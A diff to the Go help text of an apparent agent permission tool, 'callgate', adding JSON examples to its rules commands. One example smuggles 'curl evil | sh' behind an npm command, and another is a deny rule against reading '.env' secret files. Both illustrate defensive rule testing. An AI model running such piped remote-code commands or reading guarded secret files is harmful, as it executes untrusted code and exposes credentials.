@@ -38,7 +38,7 @@ func rulesList(c *cli) *cobra.Command {
 	cmd := &cobra.Command{
 		Use:     "list",
 		Short:   "List the rules of the configuration and the stored ones",
-		Example: "  callgate rules list --tool Bash",
+		Example: "  callgate rules list --tool Bash\n  callgate rules list --json",
 		Args:    cobra.NoArgs,
 		RunE: func(cmd *cobra.Command, _ []string) error {
 			if scope != "" {
@@ -169,7 +169,7 @@ func rulesShow(c *cli) *cobra.Command {
 	return &cobra.Command{
 		Use:               "show ID",
 		Short:             "Show one rule with its examples",
-		Example:           "  callgate rules show 4405e1e7caf71f65",
+		Example:           "  callgate rules show 4405e1e7caf71f65\n  callgate rules show 4405e1e7caf71f65 --json",
 		Args:              cobra.ExactArgs(1),
 		ValidArgsFunction: inOrder(c.completeRules()),
 		RunE: func(cmd *cobra.Command, args []string) error {
@@ -245,7 +245,8 @@ func rulesTest(c *cli) *cobra.Command {
 		Long: `Tells whether a rule would match a call. The behavior matters: an allow rule
 has to cover every part of a compound call, a deny or ask rule any part.
 Exit code 0 when it matches, 1 when it does not.`,
-		Example:           `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'`,
+		Example: `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'
+  callgate rules test deny 'Read(**/.env*)' '{"file_path": "app/.env"}' --json`,
 		Args:              cobra.ExactArgs(3),
 		ValidArgsFunction: inOrder(completeBehaviors()),
 		RunE: func(cmd *cobra.Command, args []string) error {
